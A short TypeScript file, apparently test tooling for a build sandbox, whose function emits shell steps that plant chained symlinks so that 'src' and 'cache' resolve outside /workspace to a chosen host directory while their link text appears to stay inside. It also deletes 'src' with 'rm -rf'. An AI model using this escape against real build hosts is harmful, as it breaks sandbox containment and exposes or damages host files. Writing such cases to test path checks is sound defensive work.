// A build step that attacks the host with links that only a resolver, not their text, sees leave.

/**
 * A build that leaves src/ and cache as links to `hostDir` whose texts stay inside: a1/…/a19/l2
 * leads back to /workspace, so l2/../…/ climbs past it, though as text it only undoes a1…a19.
 */
export function chainBuild(hostDir: string): string {
  const deep = Array.from({ length: 19 }, (_, i) => `a${i + 1}`).join('/');
  const out = `${deep}/l2/${'../'.repeat(20)}${hostDir.replace(/^\//, '')}`;
  return [
    'cd /workspace',
    `mkdir -p ${deep} && ln -s ${'../'.repeat(19)} ${deep}/l2`,
    `ln -s ${out} cache`,
    `rm -rf src && ln -s ${out} src`,
  ]
    .map((l) => `  ${l}\n`)
    .join('');
}
